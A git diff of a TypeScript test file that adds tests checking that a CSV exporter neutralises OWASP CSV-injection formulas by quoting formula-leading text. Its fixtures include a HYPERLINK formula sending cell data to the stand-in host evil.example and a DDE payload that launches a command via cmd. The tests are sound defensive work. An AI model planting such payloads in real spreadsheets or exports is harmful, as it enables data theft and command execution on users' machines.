@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict'
-import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { after, before, describe, it } from 'node:test'
@@ -7,6 +7,7 @@ import { type DuckDBConnection, DuckDBInstance, DuckDBTimestampTZValue } from '@
 import { parse } from 'csv-parse/sync'
 import { parquetMetadata, parquetReadObjects } from 'hyparquet'
 import type { FlatTable, TableColumn } from '../../src/contract/table.ts'
+import { CsvTableWriter } from '../../src/export/csv-table.ts'
 import { encodeTableCsv, encodeTableParquet } from '../../src/export/tabular.ts'
 import * as fc from '../helpers/fc.ts'
 
@@ -132,7 +133,9 @@ function expectedParquet(c: TableColumn, i: number): string | number | bigint | 
 function expectedText(c: TableColumn, i: number): string {
   const v = c.values[i]
   if (v === null || (typeof v === 'number' && Number.isNaN(v))) return ''
-  if (typeof v === 'string' || typeof v === 'boolean') return String(v)
+  // OWASP CSV injection: a text a spreadsheet would evaluate (= + - @ tab CR first) reads as text.
+  if (typeof v === 'string') return /^[=+\-@\t\r]/.test(v) ? `'${v}` : v
+  if (typeof v === 'boolean') return String(v)
   if (c.type === 'TIMESTAMP_MILLIS') {
     const iso = new Date(v).toISOString()
     return v % DAY_MS === 0 ? (iso.split('T')[0] ?? '') : iso
@@ -370,9 +373,14 @@ describe('tabular export: CSV', () => {
 
 // ---------- property: random tables ----------
 
+/** Texts a spreadsheet would evaluate: each of the OWASP leading characters, then anything. */
+const formulaArb = fc
+  .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: 'grapheme', maxLength: 10 }))
+  .map(([lead, rest]) => lead + rest)
 const stringArb = fc.oneof(
   fc.string({ unit: 'grapheme', maxLength: 12 }),
   fc.constantFrom('', ',', '"', '""', '\r\n', '\n', '\r', 'a,"b"\r\nc'),
+  formulaArb,
 )
 const timestampArb = fc.oneof(
   fc.integer({ min: -100_000, max: 100_000 }).map((d) => d * DAY_MS),
@@ -399,6 +407,92 @@ const tableArb: fc.Arbitrary<FlatTable> = fc
   .chain(([n, k]) =>
     fc.tuple(...Array.from({ length: k }, (_, j) => columnArb(`c${j}`, n))).map((columns) => ({ columns })),
   )
+
+describe('tabular export: CSV injection (OWASP)', () => {
+  const FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(A1:A9)',
+    '\t=1+1',
+    '\r=1+1',
+    "'already quoted",
+    'safe = text',
+    'x-1',
+  ]
+  const table: FlatTable = {
+    columns: [
+      { name: 'text', type: 'UTF8', values: FORMULAS },
+      {
+        name: 'number',
+        type: 'DOUBLE',
+        values: [-0.5, -1e-300, -Number.MAX_VALUE, -Infinity, 1, -2, -3, 4, -5],
+      },
+      { name: 'count', type: 'INT64', values: [-1, -(2 ** 53 - 1), 0, 1, -2, -3, -4, -5, -6] },
+    ],
+  }
+
+  it('prefixes formula-leading text cells with a quote and leaves numbers alone', () => {
+    assert.deepEqual(parseCsv(encodeTableCsv(table)), [
+      ['text', 'number', 'count'],
+      [`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, '-0.5', '-1'],
+      ["'+1+cmd|' /C calc'!A0", '-1e-300', '-9007199254740991'],
+      ["'-2+3", '-1.7976931348623157e+308', '0'],
+      ["'@SUM(A1:A9)", '-Infinity', '1'],
+      ["'\t=1+1", '1', '-2'],
+      ["'\r=1+1", '-2', '-3'],
+      ["'already quoted", '-3', '-4'],
+      ['safe = text', '4', '-5'],
+      ['x-1', '-5', '-6'],
+    ])
+  })
+
+  it('the long-panel export (erm3 export) does the same to its text columns and tickers', async () => {
+    const path = join(dir, 'panel.csv')
+    const w = new CsvTableWriter(path, ['name', 'beta'])
+    await w.write({
+      date: Int32Array.of(0, 1),
+      ticker: ['-X', 'AAPL'],
+      numbers: new Map([['beta', Float64Array.of(-0.5, Number.NaN)]]),
+      texts: new Map([['name', ['=1+1', 'Apple']]]),
+    })
+    await w.close()
+    assert.deepEqual(parseCsv(await readFile(path, 'utf8')), [
+      ['date', 'ticker', 'name', 'beta'],
+      ['1970-01-01', "'-X", "'=1+1", '-0.5'],
+      ['1970-01-02', 'AAPL', 'Apple', ''],
+    ])
+  })
+
+  it('property: no text cell reads back formula-leading; numbers read back unchanged', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.tuple(fc.option(stringArb, { nil: null }), fc.double()), { minLength: 1, maxLength: 30 }),
+        (rows) => {
+          const csv = encodeTableCsv({
+            columns: [
+              { name: 's', type: 'UTF8', values: rows.map((r) => r[0]) },
+              { name: 'x', type: 'DOUBLE', values: rows.map((r) => r[1]) },
+            ],
+          })
+          const back = parseCsv(csv).slice(1)
+          rows.forEach(([text, x], i) => {
+            const [cell, num] = back[i] as [string, string]
+            assert.doesNotMatch(cell, /^[=+\-@\t\r]/)
+            // The quote is the only change, and only on a formula-leading text.
+            assert.equal(
+              cell.startsWith("'") && /^[=+\-@\t\r]/.test(text ?? '') ? cell.slice(1) : cell,
+              text ?? '',
+            )
+            if (Number.isNaN(x)) assert.equal(num, '')
+            else assert.ok(Object.is(Number(num), Object.is(x, -0) ? 0 : x), `${num} ≠ ${x}`)
+          })
+        },
+      ),
+      { numRuns: 300 },
+    )
+  })
+})
 
 describe('tabular export: random tables', () => {
   it('Parquet reads back equal in hyparquet; CSV parses to the expected text', async () => {
